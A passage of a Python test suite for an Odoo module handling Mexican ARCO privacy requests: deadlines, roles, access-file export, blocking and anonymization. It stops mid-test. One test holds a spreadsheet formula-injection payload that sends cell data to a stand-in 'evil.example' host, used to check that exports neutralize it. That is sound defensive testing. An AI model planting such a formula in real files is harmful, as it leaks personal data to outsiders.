import base64
import io
import json
from datetime import date, timedelta

import openpyxl
from freezegun import freeze_time

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, tagged

from odoo.addons.movimientos_sociales.models.ms_arco_request import mexican_holidays
from odoo.addons.movimientos_sociales.models.ms_scrub import (
    find_personal_data,
    personal_needles,
)

from .common import MsCase

MONDAY = date(2026, 3, 2)
REPORT = "movimientos_sociales.ms_arco_access_xlsx"
SHEETS = [
    "Contact",
    "Organizations",
    "Insertions",
    "Insertion Reports",
    "Participations",
    "Consents",
    "Citizen Demands",
    "Messages",
    "Activities",
]


@tagged("post_install", "-at_install", "ms_privacy", "ms_arco")
@freeze_time("2026-03-02 18:00:00")  # Monday, the same day in Mexico City and UTC
class TestMsArcoRequest(MsCase):
    """ARCO requests (ms.arco.request): numbering, legal deadline, lifecycle,
    access file, and cancellation by blocking then anonymizing."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env.company.write({"ms_arco_days": 20, "ms_retention_days": 180})
        cls.sector_arco = cls._create_sector("Colonos", "TARC")
        cls.union = cls._create_movement(
            "Unión de Colonos del Valle",
            email="ucv@example.mx",
            street="Av. Juárez 100",
            city="Oaxaca de Juárez",
            zip="68000",
        )
        cls.front = cls._create_movement("Frente Campesino del Istmo")

        # A cadre, member of an organization, with a trace in every section of
        # the access file
        cls.person_cadre = cls._create_cadre(
            "María López Hernández",
            email="maria@example.mx",
            phone="+52 951 123 4567",
            parent_id=cls.union.partner_id.id,
            ms_sector_ids=[Command.set(cls.sector_arco.ids)],
            cadre_vals={"committee": "Comité Estatal de Oaxaca"},
        )
        cls.person = cls.person_cadre.partner_id
        cls.insertion = cls._create_insertion(
            cls.person_cadre, cls.front, role="Enlace"
        )
        cls.consent = cls._create_consent(cls.person)
        cls.conference = cls._create_conference("Encuentro de Colonos")
        cls.participant = cls._add_participants(cls.conference, cls.person)
        cls.demand = cls._create_demand(cls.person)
        cls.message = cls.person.message_post(
            body="Llamada de seguimiento con la compañera", message_type="comment"
        )
        cls.activity = cls.person.activity_schedule(
            "mail.mail_activity_data_todo",
            summary="Devolver la llamada",
            user_id=cls.user_coordinator.id,
        )

        # A cadre on their own, with an address of their own
        cls.solo_cadre = cls._create_cadre(
            "Juan Pérez",
            email="juan.perez@example.mx",
            phone="+52 971 765 4321",
            street="Calle Pino 5",
            city="Juchitán de Zaragoza",
            ms_sector_ids=[Command.set(cls.sector_arco.ids)],
            cadre_vals={
                "date_since": date(2019, 5, 1),
                "training_level": "advanced",
                "committee": "Comité Municipal de Juchitán",
            },
        )
        cls.solo = cls.solo_cadre.partner_id
        cls.solo_message = cls.solo.message_post(
            body="Entrevista con Juan", message_type="comment"
        )
        cls.solo_consent = cls._create_consent(cls.solo)
        cls.solo_evidence = cls.env["ir.attachment"].create(
            {"name": "consentimiento.pdf", "raw": b"%PDF-1.4 firmado"}
        )
        cls.solo_consent.evidence_ids = [Command.set(cls.solo_evidence.ids)]

    def _arco(self, partner, request_type="access", user=None, **vals):
        """A request created by `user` (the coordinator by default)."""
        user = user or self.user_coordinator
        return self._create_arco(partner, request_type, env=self.env(user=user), **vals)

    def _block(self, partner):
        request = self._arco(partner, "cancellation")
        request.action_block()
        return request

    # Number and deadline -------------------------------------------------------

    def test_name_from_sequence(self):
        """Requests are numbered ARCO/<year>/<number>, increasingly."""
        first = self._arco(self.person)
        second = self._arco(self.solo, "rectification")
        for request in first | second:
            self.assertRegex(request.name, r"^ARCO/\d{4}/\d{4}$")
            self.assertTrue(request.name.startswith("ARCO/2026/"))
        self.assertGreater(second.name, first.name)

    def test_deadline_business_days(self):
        """The legal deadline is 20 business days after the request is received:
        Monday 2 March 2026 gives Tuesday 31 March (Monday 16 March, Benito
        Juárez's day, doesn't count); a request received on Friday, Saturday or
        Sunday counts from the next Monday."""
        expected = {
            date(2026, 3, 2): date(2026, 3, 31),
            date(2026, 3, 6): date(2026, 4, 6),
            date(2026, 3, 7): date(2026, 4, 6),
            date(2026, 3, 8): date(2026, 4, 6),
            date(2026, 3, 9): date(2026, 4, 7),
        }
        for received, deadline in expected.items():
            with self.subTest(received=received):
                request = self._arco(self.person, date_received=received)
                self.assertEqual(request.deadline, deadline)

    def test_deadline_skips_weekends(self):
        """Whatever the day received, the deadline is a working day with exactly
        20 working days (weekdays but holidays) between the day after reception
        and it."""

        def working(day):
            return day.weekday() < 5 and day not in mexican_holidays(day.year)

        for offset in range(14):
            received = MONDAY + timedelta(days=offset)
            request = self._arco(self.person, date_received=received)
            days = [
                received + timedelta(days=n)
                for n in range(1, (request.deadline - received).days + 1)
            ]
            self.assertTrue(working(request.deadline))
            self.assertEqual(sum(working(day) for day in days), 20)

    def test_holidays_are_those_of_the_labour_law(self):
        """The holidays are the mandatory rest days of Ley Federal del Trabajo
        art. 74, worked out by hand: 2027, and 2030 with 1 October (transfer of
        the federal executive, every six years from 2024)."""
        self.assertEqual(
            mexican_holidays(2027),
            {
                date(2027, 1, 1),
                date(2027, 2, 1),  # first Monday of February
                date(2027, 3, 15),  # third Monday of March
                date(2027, 5, 1),
                date(2027, 9, 16),
                date(2027, 11, 15),  # third Monday of November
                date(2027, 12, 25),
            },
        )
        self.assertIn(date(2024, 10, 1), mexican_holidays(2024))
        self.assertIn(date(2030, 10, 1), mexican_holidays(2030))
        self.assertNotIn(date(2026, 10, 1), mexican_holidays(2026))

    def test_deadline_skips_holidays(self):
        """Official holidays on a weekday don't count: received Monday 14
        December 2026, the deadline is Wednesday 13 January 2027, not Monday 11
        (Friday 25 December and Friday 1 January are skipped); received
        Wednesday 2 September 2026, it is Thursday 1 October, not Wednesday 30
        September (16 September skipped). A holiday on a Saturday is not moved
        to a weekday: received Monday 20 December 2027 (25 December and 1
        January on Saturdays), it is Monday 17 January 2028, as by weekends
        alone."""
        expected = {
            date(2026, 12, 14): date(2027, 1, 13),
            date(2026, 9, 2): date(2026, 10, 1),
            date(2027, 12, 20): date(2028, 1, 17),
        }
        for received, deadline in expected.items():
            with self.subTest(received=received):
                request = self._arco(self.person, date_received=received)
                self.assertEqual(request.deadline, deadline)

    def test_deadline_follows_date_received(self):
        """Changing the date received moves the deadline; the deadline defaults
        from today's date."""
        request = self._arco(self.person)
        self.assertEqual(request.date_received, MONDAY)
        self.assertEqual(request.deadline, date(2026, 3, 31))
        later = self._arco(self.person, date_received=date(2026, 3, 6))
        self.assertEqual(later.deadline, date(2026, 4, 6))

    def test_legal_dates_fixed(self):
        """Finding 5 (variant): once registered, the date received and the
        legal deadline can't be rewritten."""
        request = self._arco(self.person).with_user(self.user_coordinator)
        for values in ({"date_received": "2000-01-01"}, {"deadline": "2099-01-01"}):
            with self.subTest(values=values), self.assertRaises(UserError):
                request.write(values)
        self.assertEqual(request.deadline, date(2026, 3, 31))

    def test_deadline_configurable(self):
        """The number of business days comes from the company's settings."""
        self.env.company.ms_arco_days = 5
        request = self._arco(self.person, date_received=date(2026, 3, 6))
        self.assertEqual(request.deadline, date(2026, 3, 13))
        self.env.company.ms_arco_days = 10
        request = self._arco(self.person, date_received=MONDAY)
        self.assertEqual(request.deadline, date(2026, 3, 17))  # 16 March: holiday

    # Lifecycle -----------------------------------------------------------------

    def test_start_and_answer(self):
        """A Coordinador starts handling a request, then answers it: the answer
        date is today; neither step can be repeated."""
        request = self._arco(self.person, "rectification")
        self.assertEqual(request.state, "received")
        self.assertEqual(request.user_id, self.user_coordinator)
        request.action_start()
        self.assertEqual(request.state, "in_progress")
        with self.assertRaises(UserError):
            request.action_start()
        request.action_answer()
        self.assertEqual(request.state, "done")
        self.assertEqual(request.response_date, MONDAY)
        with self.assertRaises(UserError):
            request.action_answer()

    def test_answer_received_request(self):
        """A request can be answered straight from received."""
        request = self._arco(self.person, "opposition")
        request.action_answer()
        self.assertEqual(request.state, "done")

    def test_cancellation_not_answered(self):
        """A cancellation is not answered but blocked then anonymized."""
        request = self._arco(self.person, "cancellation")
        with self.assertRaisesRegex(UserError, "answered by blocking"):
            request.action_answer()
        self.assertEqual(request.state, "received")
        self.assertFalse(request.response_date)

    def test_reject_with_reason(self):
        """Rejecting needs a reason, kept on the request with the answer date; a
        rejected or answered request cannot be rejected."""
        request = self._arco(self.person, "rectification")
        with self.assertRaisesRegex(UserError, "Give the reason"):
            request.action_reject(reason="  ")
        self.assertEqual(request.state, "received")
        request.action_start()
        request.action_reject(reason="  The data is already correct. ")
        self.assertEqual(request.state, "rejected")
        self.assertEqual(request.state_reason, "The data is already correct.")
        self.assertEqual(request.response_date, MONDAY)
        with self.assertRaises(UserError):
            request.action_reject(reason="Again")
        answered = self._arco(self.person, "opposition")
        answered.action_answer()
        with self.assertRaises(UserError):
            answered.action_reject(reason="Too late")

    # Access rights -------------------------------------------------------------

    def test_only_coordinator_reads_requests(self):
        """Lectura and Operador users, and employees outside the commission,
        cannot even read ARCO requests; Coordinador and Administrador can."""
        request = self._arco(self.person)
        for user in (self.user_employee, self.user_reader, self.user_operator):
            with self.subTest(user=user.login):
                Request = self.env["ms.arco.request"].with_user(user)
                with self.assertRaises(AccessError):
                    Request.search([])
                with self.assertRaises(AccessError):
                    Request.browse(request.id).read(["name"])
                with self.assertRaises(AccessError):
                    self._arco(self.person, user=user)
        for user in (self.user_coordinator, self.user_manager):
            Request = self.env["ms.arco.request"].with_user(user)
            self.assertIn(request, Request.search([]))

    def test_operator_cannot_act(self):
        """An Operador gets an access error on every action of a request, from
        the explicit role check, and the request is left unchanged."""
        access = self._arco(self.person)
        cancellation = self._arco(self.person, "cancellation")
        actions = {
            "action_start": (access, {}),
            "action_answer": (access, {}),
            "action_reject": (access, {"reason": "No"}),
            "action_generate_access_file": (access, {}),
            "action_block": (cancellation, {}),
            "action_anonymize": (cancellation, {}),
        }
        for name, (request, kwargs) in actions.items():
            with self.subTest(action=name):
                as_operator = request.with_user(self.user_operator)
                with self.assertRaisesRegex(AccessError, "Only a"):
                    getattr(as_operator, name)(**kwargs)
        self.assertEqual(access.state, "received")
        self.assertFalse(access.access_file)
        self.assertEqual(cancellation.state, "received")
        self.assertTrue(self.person.active)

    def test_only_manager_anonymizes(self):
        """A Coordinador blocks, but only an Administrador anonymizes: the
        Coordinador gets an access error and nothing is scrubbed."""
        self.env.company.ms_retention_days = 0
        request = self._block(self.solo)
        with self.assertRaisesRegex(AccessError, "anonymize personal data"):
            request.action_anonymize()
        self.assertEqual(request.state, "blocked")
        self.assertEqual(self.solo.name, "Juan Pérez")
        request.with_user(self.user_manager).action_anonymize()
        self.assertEqual(request.state, "done")

    # Access file -----------------------------------------------------------------

    def _workbook(self, request):
        self.assertTrue(request.access_file)
        content = base64.b64decode(request.access_file)
        return openpyxl.load_workbook(io.BytesIO(content))

    @staticmethod
    def _rows(sheet):
        return [
            tuple("" if value is None else value for value in row)
            for row in sheet.iter_rows(values_only=True)
        ]

    def _assert_full_access_file(self, workbook):
        """The workbook lists what the database holds about self.person."""
        self.assertEqual(workbook.sheetnames, SHEETS)
        contact = dict(self._rows(workbook["Contact"])[1:])
        self.assertEqual(contact["Name"], "María López Hernández")
        self.assertEqual(contact["Email"], "maria@example.mx")
        self.assertEqual(contact["Phone"], "+52 951 123 4567")
        self.assertEqual(contact["Sectors"], "Colonos")
        self.assertEqual(contact["Party Cadre"], "Yes")
        self.assertEqual(contact["Party Body"], "Comité Estatal de Oaxaca")

        organizations = self._rows(workbook["Organizations"])
        self.assertEqual(organizations[0][0], "Organization")
        self.assertEqual([row[0] for row in organizations[1:]], [self.union.name])

        insertions = self._rows(workbook["Insertions"])
        self.assertEqual(
            [row[:2] for row in insertions[1:]],
            [("Frente Campesino del Istmo", "Enlace")],
        )
        self.assertEqual(
            self._rows(workbook["Insertion Reports"])[0],
            ("Date", "Organization", "Summary"),
        )
        participations = self._rows(workbook["Participations"])
        self.assertEqual(
            [row[0] for row in participations[1:]], ["Encuentro de Colonos"]
        )
        consents = self._rows(workbook["Consents"])
        self.assertEqual(len(consents), 2)
        self.assertIn(consents[1][0], ("mass_communications", "Mass Communications"))
        self.assertEqual(consents[1][1].date(), MONDAY)
        demands = self._rows(workbook["Citizen Demands"])
        self.assertEqual([row[0] for row in demands[1:]], [self.demand.name])
        texts = [row[3] for row in self._rows(workbook["Messages"])[1:]]
        self.assertIn("Llamada de seguimiento con la compañera", texts)
        activities = self._rows(workbook["Activities"])
        self.assertEqual([row[2] for row in activities[1:]], ["Devolver la llamada"])

    def test_access_file(self):
        """The access file of an access request is an XLSX workbook with one
        sheet per kind of data, holding the person's contact data, the
        organization they belong to, insertions, participations, consents,
        demands, messages and activities."""
        request = self._arco(self.person).with_context(lang="en_US")
        self.assertTrue(request.action_generate_access_file())
        self.assertEqual(
            request.access_filename, f"{request.name.replace('/', '-')}.xlsx"
        )
        self.assertRegex(request.access_filename, r"^ARCO-2026-\d{4}\.xlsx$")
        self._assert_full_access_file(self._workbook(request))

    def test_access_file_complete_for_restricted_coordinator(self):
        """The access file holds everything about a person of the officer's
        scope, also what lies beyond it: the organizations, insertions,
        participations and demands of Oaxaca are in it for a Coordinador of the
        person's sector only."""
        coordinator = self._create_scoped_user(
            "ms_coordinator_sector",
            "movimientos_sociales.group_ms_coordinator",
            "Cecilia Sectorial",
            sectors=self.sector_arco,
        )
        request = self._arco(self.person, user=coordinator).with_context(lang="en_US")
        request.action_generate_access_file()
        self._assert_full_access_file(self._workbook(request))

    def test_access_report_checks_the_request(self):
        """The report's URL takes any ids: the access file is produced only
        for access requests the officer may read (their scope)."""
        coordinator = self._create_scoped_user(
            "ms_coordinator_other",
            "movimientos_sociales.group_ms_coordinator",
            "Yara Juventud",
            sectors=self.sector_youth,
        )
        access = self._arco(self.person)
        opposition = self._arco(self.person, "opposition")
        Report = self.env["ir.actions.report"]
        with self.assertRaises(AccessError):
            Report.with_user(coordinator)._render_xlsx(REPORT, access.ids, {})
        with self.assertRaises(AccessError):
            Report.with_user(self.user_coordinator)._render_xlsx(
                REPORT, opposition.ids, {}
            )

    def test_arco_within_the_officers_scope(self):
        """Finding F1 of the second verification: a scoped Coordinador can't
        open, answer or block an ARCO request of a person out of their scope
        (the access file would give them the person's whole record)."""
        coordinator = self._create_scoped_user(
            "ms_coordinator_youth",
            "movimientos_sociales.group_ms_coordinator",
            "Yara Juventud",
            sectors=self.sector_youth,
        )
        for request_type in ("access", "cancellation"):
            with self.subTest(request_type=request_type):
                with self.assertRaises(AccessError):
                    self._arco(self.person, request_type, user=coordinator)
        request = self._arco(self.person, "cancellation")
        with self.assertRaises(AccessError):
            request.with_user(coordinator).action_block()
        self.assertEqual(request.state, "received")
        self.assertTrue(self.person.active)

    def test_access_file_cells_are_text(self):
        """Finding 8: a contact named like a spreadsheet formula is written as
        text in the access file, never as a live formula."""
        hostile = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
        self.solo.name = hostile
        request = self._arco(self.solo)
        request.action_generate_access_file()
        book = openpyxl.load_workbook(
            io.BytesIO(base64.b64decode(request.access_file)), data_only=False
        )
        cells = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value == hostile
        ]
        self.assertTrue(cells)
        for cell in cells:
            self.assertEqual(cell.data_type, "s")

    def test_access_file_only_for_access(self):
        """Only an access request produces a file."""
        request = self._arco(self.person, "rectification")
        with self.assertRaisesRegex(UserError, "Only an access request"):
            request.action_generate_access_file()
        self.assertFalse(request.access_file)

    def test_access_report_refuses_operator(self):
        """Rendering the access report directly is refused to an Operador by the
        report itself; a Coordinador gets the workbook."""
        request = self._arco(self.person)
        Report = self.env["ir.actions.report"]
        with self.assertRaisesRegex(AccessError, "Only a Coordinator"):
            Report.with_user(self.user_operator)._render_xlsx(REPORT, request.ids, {})
        content, fmt = (
            Report.with_user(self.user_coordinator)
            .with_context(lang="en_US")
            ._render_xlsx(REPORT, request.ids, {})
        )
        self.assertEqual(fmt, "xlsx")
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        self.assertEqual(workbook.sheetnames, SHEETS)

    # Cancellation: block ---------------------------------------------------------

    def test_block(self):
        """Blocking a cancellation archives the contact, blacklists its email,
        records the date and the end of the retention period: the contact leaves
        the default searches and the sector's mailings."""
        Partner = self.env["res.partner"]
        sector = self.sector_arco.with_user(self.user_operator)
        action = sector.action_ms_send_mailing()
        mailing = self.env["mailing.mailing"].browse(action["res_id"])
        self.assertIn(self.solo.id, mailing._get_recipients())
        audience = mailing.ms_audience_count

        request = self._block(self.solo)
        self.assertEqual(request.state, "blocked")
        self.assertEqual(request.date_blocked, MONDAY)
        self.assertEqual(request.date_anonymize, MONDAY + timedelta(days=180))
        self.assertFalse(self.solo.active)
        self.assertFalse(Partner.search([("id", "=", self.solo.id)]))
        self.assertFalse(Partner.search([("name", "=", "Juan Pérez")]))
        entry = self.env["mail.blacklist"].search(
            [("email", "=", "juan.perez@example.mx")]
        )
        self.assertTrue(entry.active)
        self.assertTrue(self.solo.is_blacklisted)

        self.env.invalidate_all()
        self.assertNotIn(self.solo.id, mailing._get_recipients())
        self.assertEqual(mailing.ms_audience_count, audience - 1)
        self.assertEqual(sector.mailing_audience_count, audience - 1)
        # the person's data is kept during the retention period
        self.assertEqual(self.solo.email, "juan.perez@example.mx")
        self.assertEqual(self.solo_cadre.committee, "Comité Municipal de Juchitán")
        self.assertFalse(self.solo_cadre.active)

    def test_block_archives_organization(self):
        """Blocking the contact of an organization also archives the
        organization's file."""
        request = self._block(self.front.partner_id)
        self.assertEqual(request.state, "blocked")
        self.assertFalse(self.front.active)
        self.assertFalse(self.front.partner_id.active)
        self.assertNotIn(self.front, self.env["ms.movement"].search([]))
        self.assertTrue(self.union.active)

    def test_block_only_cancellation(self):
        """Only a cancellation blocks; a blocked request cannot be blocked
        again."""
        request = self._arco(self.solo, "opposition")
        with self.assertRaisesRegex(UserError, "Only a cancellation"):
            request.action_block()
        self.assertTrue(self.solo.active)
        blocked = self._block(self.solo)
        with self.assertRaises(UserError):
            blocked.action_block()

    # Cancellation: anonymize -----------------------------------------------------

    def test_anonymize_before_retention(self):
        """During the retention period, anonymizing is refused, up to the day
        before its end."""
        request = self._block(self.solo).with_user(self.user_manager)
        for moment in ("2026-03-02 18:00:00", "2026-08-28 18:00:00"):
            with self.subTest(moment=moment), freeze_time(moment):
                with self.assertRaisesRegex(UserError, "retention period"):
                    request.action_anonymize()
        self.assertEqual(request.state, "blocked")
        self.assertEqual(self.solo.name, "Juan Pérez")
        self.assertEqual(self.solo.email, "juan.perez@example.mx")

    def _assert_solo_anonymized(self, request, day):
        solo = self.solo.with_context(active_test=False)
        self.assertEqual(request.state, "done")
        self.assertEqual(request.response_date, day)
        self.assertEqual(solo.name, "JP Anonymized")
        self.assertEqual(solo.email, f"jp_{day.isoformat()}_{solo.id}@anonymized.oca")
        self.assertFalse(solo.phone)
        self.assertFalse(solo.street)
        self.assertFalse(solo.city)
        self.assertFalse(solo.active)
        self.assertFalse(self.solo_cadre.active)
        self.assertFalse(self.solo_cadre.date_since)
        self.assertFalse(self.solo_cadre.training_level)
        self.assertFalse(self.solo_cadre.committee)
        self.assertFalse(self.solo_message.exists())
        self.assertFalse(self.solo_evidence.exists())
        remaining = self.env["mail.message"].search(
            [("model", "=", "res.partner"), ("res_id", "=", solo.id)]
        )
        self.assertEqual(len(remaining), 1)
        self.assertIn("has been anonymized", remaining.body)
        # the consent register keeps the fact that consent was given
        self.assertTrue(self.solo_consent.exists())

    def test_anonymize_after_retention(self):
        """Once the retention period is over, an Administrador anonymizes the
        contact: initials for a name, an anonymous email, no phone nor address,
        no cadre data, no messages nor evidence files; the request is done."""
        request = self._block(self.solo)
        with freeze_time("2026-08-29 18:00:00"):
            request.with_user(self.user_manager).action_anonymize()
            self._assert_solo_anonymized(request, date(2026, 8, 29))

    def test_anonymize_without_retention(self):
        """With no retention period, the contact can be anonymized the day it
        is blocked."""
        self.env.company.ms_retention_days = 0
        request = self._block(self.solo)
        self.assertEqual(request.date_anonymize, MONDAY)
        request.with_user(self.user_manager).action_anonymize()
        self._assert_solo_anonymized(request, MONDAY)

    def test_anonymize_only_blocked(self):
        """Only a blocked request can be anonymized."""
        request = self._arco(self.solo, "cancellation").with_user(self.user_manager)
        with self.assertRaises(UserError):
            request.action_anonymize()
        self.assertEqual(self.solo.name, "Juan Pérez")

    def test_anonymize_keeps_aggregates(self):
        """Anonymizing a person keeps what counts for the commission's figures:
        the conference participation, the citizen demand and the insertion
        still exist and point to the anonymized contact, the conference still
        counts the person as invited, and the organization the person belonged
        to keeps its own address."""
        self.env.company.ms_retention_days = 0
        union_address = {
            "street": "Av. Juárez 100",
            "city": "Oaxaca de Juárez",
            "zip": "68000",
            "state_id": self.state_oax,
            "country_id": self.mx,
        }
        for fname, value in union_address.items():
            self.assertEqual(self.union[fname], value)
        self.assertEqual(self.conference.invited_count, 1)

        request = self._block(self.person)
        request.with_user(self.user_manager).action_anonymize()
        self.env.invalidate_all()

        person = self.person.with_context(active_test=False)
        self.assertEqual(person.name, "MLH Anonymized")
        self.assertTrue(self.participant.exists())
        self.assertEqual(self.participant.partner_id, person)
        self.assertEqual(self.conference.invited_count, 1)
        self.assertEqual(self.conference.participant_ids, self.participant)
        self.assertTrue(self.demand.exists())
        self.assertEqual(self.demand.requester_id, person)
        self.assertTrue(self.insertion.exists())
        self.assertEqual(self.insertion.cadre_id.partner_id, person)
        self.assertFalse(self.message.exists())
        self.assertTrue(self.union.active)
        for fname, value in union_address.items():
            with self.subTest(field=fname):
                self.assertEqual(self.union[fname], value)

    def test_cron_anonymize(self):
        """The daily cron anonymizes the blocked requests whose retention period
        is over, and only those."""
        cron = self.env.ref("movimientos_sociales.ir_cron_arco_anonymize")
        self.assertEqual(cron.model_id.model, "ms.arco.request")
        self.assertEqual(cron.code.strip(), "model._cron_anonymize()")
        self.assertTrue(cron.active)

        due = self._block(self.solo)  # retention ends 29 August 2026
        with freeze_time("2026-04-01 18:00:00"):
            later = self._block(self.person)  # retention ends 28 September 2026
        pending = self._arco(self.solo, "cancellation")
        self.assertEqual(later.date_anonymize, date(2026, 9, 28))

        with freeze_time("2026-08-28 18:00:00"):
            self.env["ms.arco.request"]._cron_anonymize()
        self.assertEqual((due | later).mapped("state"), ["blocked", "blocked"])
        self.assertEqual(self.solo.name, "Juan Pérez")

        with freeze_time("2026-08-29 18:00:00"):
            self.env["ms.arco.request"]._cron_anonymize()
            self._assert_solo_anonymized(due, date(2026, 8, 29))
        self.assertEqual(later.state, "blocked")
        self.assertEqual(self.person.name, "María López Hernández")
        self.assertEqual(self.person.email, "maria@example.mx")
        self.assertTrue(self.message.exists())
        self.assertEqual(pending.state, "received")


@tagged("post_install", "-at_install", "ms_privacy", "ms_arco")
class TestMsArcoBlockAndForget(MsCase):
    """A blocked person is named by nobody and can't be brought back but by
    ARCO; once anonymized, no stored text anywhere still names them."""

    NAME = "Juana Perdomo Ruiz"
    EMAIL = "juana.perdomo@example.mx"
    PHONE = "+52 951 555 0101"
    STREET = "Calle de los Naranjos 12"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env.company.ms_retention_days = 0
        cls.operator_oax = cls._create_scoped_user(
            "ms_op_oax",
            "movimientos_sociales.group_ms_user",
            "Omar Oaxaca",
            states=cls.state_oax,
        )
        cls.org = cls._create_movement("Unión de Vecinos del Centro")
        cls.cadre = cls._create_cadre(
            cls.NAME,
            email=cls.EMAIL,
            phone=cls.PHONE,
            street=cls.STREET,
            state_id=cls.state_oax.id,
            ms_sector_ids=[Command.set(cls.sector_workers.ids)],
            cadre_vals={"committee": "Comité Municipal de Oaxaca"},
        )
        cls.person = cls.cadre.partner_id
        cls.insertion = cls._create_insertion(cls.cadre, cls.org, role="Enlace")
        cls.demand = cls._create_demand(cls.person)
        cls.conference = cls._create_conference("Encuentro Vecinal")
        cls.participant = cls._add_participants(cls.conference, cls.person)

    def _traces_of_the_person(self):
        """Leave the person's name and email where the issue found them: tracking
        values, a note on the organization, the audit trail, a mailing trace, a
        calendar attendee, an access file."""
        tracked = self.env(context={})
        other = self._create_cadre("Otra Persona Cuadro")
        insertion = self.insertion.with_env(tracked)
        insertion.cadre_id = other
        insertion.cadre_id = self.cadre
        self.org.with_env(tracked).message_post(
            body=f"Reunión con {self.NAME} ({self.EMAIL}, {self.PHONE})",
            message_type="comment",
        )
        self.person.with_user(self.user_operator).write({"city": "Oaxaca de Juárez"})
        self.cadre.with_user(self.user_reader).read(["committee"])
        mailing = self.env["mailing.mailing"].create(
            {
                "subject": "Boletín",
                "mailing_model_id": self.env.ref("base.model_res_partner").id,
            }
        )
        self.env["mailing.trace"].create(
            {
                "mass_mailing_id": mailing.id,
                "model": "res.partner",
                "res_id": self.person.id,
                "email": self.EMAIL,
            }
        )
        session = self._create_session(member_ids=[Command.set(self.person.ids)])
        self.assertIn(
            self.NAME, session.calendar_event_id.attendee_ids.mapped("common_name")
        )
        access = self._create_arco(self.person, "access")
        access.with_user(self.user_coordinator).action_generate_access_file()
        self.assertTrue(access.access_file)
        return access

    def _needles(self):
        return personal_needles(self.NAME, self.EMAIL, self.PHONE) | {
            self.STREET: "[…]"
        }

    def test_anonymized_person_named_nowhere(self):
        """Finding 6: after block and anonymize, no stored text of any model
        names the person (generic search over every text column), an internal
        user outside the commission finds nothing in the contact's chatter, and
        the access file given earlier is gone."""
        access = self._traces_of_the_person()
        self.assertTrue(find_personal_data(self.env, self._needles()))
        request = self._create_arco(self.person, "cancellation")
        request.with_user(self.user_coordinator).action_block()
        request.with_user(self.user_manager).action_anonymize()
        self.assertEqual(request.state, "done")
        self.assertEqual(find_personal_data(self.env, self._needles()), [])
        self.assertFalse(access.access_file)
        self.assertFalse(
            self.env["ir.attachment"].search(
                [("res_model", "=", "ms.arco.request"), ("res_id", "=", access.id)]
            )
        )
        messages = (
            self.env["mail.message"]
            .with_user(self.user_employee)
            .search([("model", "=", "res.partner"), ("res_id", "=", self.person.id)])
        )
        for message in messages:
            self.assertNotIn("Perdomo", message.body)
            for value in message.sudo().tracking_value_ids:
                self.assertNotIn("Perdomo", str(value.old_value_char or ""))
        # aggregates are kept
        self.assertTrue(self.insertion.exists())
        self.assertTrue(self.participant.exists())
        self.assertEqual(self.conference.invited_count, 1)
        self.assertEqual(self.demand.requester_id, self.person)

    def test_blocked_person_named_by_nobody(self):
        """Finding 6: after the block (before anonymization) a scoped Operador
        finds the person nowhere: not as a contact, not through the insertion's
        name, the demand's requester, the conference participants, nor the
        insertions spreadsheet."""
        request = self._create_arco(self.person, "cancellation")
        request.with_user(self.user_coordinator).action_block()
        user = self.operator_oax
        env = self.env(user=user)
        self.assertFalse(env["res.partner"].name_search("Perdomo"))
        self.assertFalse(
            env["res.partner"]
            .with_context(active_test=False)
            .search([("email", "=", self.EMAIL)])
        )
        insertion = self.insertion.with_env(env)
        self.assertNotIn("Perdomo", insertion.name)
        self.assertFalse(
            env["ms.cadre.insertion"].search([("name", "ilike", "Perdomo")])
        )
        self.assertFalse(
            env["ms.demand"].search([("requester_id.name", "ilike", "Perdomo")])
        )
        self.assertNotIn("Perdomo", self.demand.with_env(env).requester_id.display_name)
        self.assertFalse(
            env["ms.conference.participant"].search(
                [("conference_id", "=", self.conference.id)]
            )
        )
        content, _fmt = (
            self.env["ir.actions.report"]
            .with_user(user)
            ._render_xlsx(
                "movimientos_sociales.ms_xlsx_cadre_insertions",
                self.insertion.ids,
                {},
            )
        )
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [str(cell) for row in book.active.values for cell in row]
        self.assertFalse([cell for cell in cells if "Perdomo" in cell])

    def test_blocked_person_follows_nothing_and_blacklist_tells_nothing(self):
        """Once blocked, the person's follower rows are gone, and the blacklist
        entry carries no note saying why (it would tell who was blocked);
        outside the commission, nobody reads the followers of its records."""
        self.org.message_subscribe(partner_ids=self.person.ids)
        request = self._create_arco(self.person, "cancellation")
        request.message_subscribe(partner_ids=self.person.ids)
        request.with_user(self.user_coordinator).action_block()
        self.assertFalse(
            self.env["mail.followers"].search([("partner_id", "=", self.person.id)])
        )
        entry = self.env["mail.blacklist"].search([("email", "=", self.EMAIL)])
        self.assertFalse(entry.message_ids.filtered(lambda m: "ARCO" in (m.body or "")))
        followers = self.env["mail.followers"].with_user(self.user_employee)
        self.assertFalse(followers.search([("res_model", "=like", "ms.%")]))

    def test_block_cannot_be_undone_but_by_arco(self):
        """Finding 5: a blocked person can't be silently unblocked: not by
        restoring the contact, the cadre or the organization file, nor by
        clearing the block flag, nor by taking the address off the blacklist."""
        request = self._create_arco(self.person, "cancellation")
        request.with_user(self.user_coordinator).action_block()
        person = self.person.with_context(active_test=False)
        for user in (self.user_operator, self.user_coordinator, self.user_manager):
            with self.subTest(user=user.login):
                with self.assertRaises(UserError):
                    person.with_user(user).action_unarchive()
                with self.assertRaises(UserError):
                    person.with_user(user).write({"ms_blocked": False})
                with self.assertRaises(UserError):
                    self.cadre.with_user(user).action_unarchive()
                entry = (
                    self.env["mail.blacklist"]
                    .with_user(user)
                    .search([("email", "=", self.EMAIL)])
                )
                with self.assertRaises(UserError):
                    entry._remove(self.EMAIL)
                with self.assertRaises(UserError):
                    entry.unlink()
        # nor by changing the person first (their address, to get around the
        # blacklist), even as the ARCO officer who sees them
        with self.assertRaises(UserError):
            person.with_user(self.user_coordinator).write({"email": "new@example.mx"})
        self.assertTrue(person.ms_blocked)
        self.assertFalse(person.active)
        self.assertTrue(person.is_blacklisted)
        self.assertEqual(person.email, self.EMAIL)

    def test_organization_form_with_blocked_member(self):
        """The organization's form still opens for an Operador when one of its
        people is blocked: the blocked person is simply not among its
        contacts."""
        member = self._create_contact(
            "Miembro Bloqueado", "miembro@example.mx", parent_id=self.org.partner_id.id
        )
        other = self._create_contact(
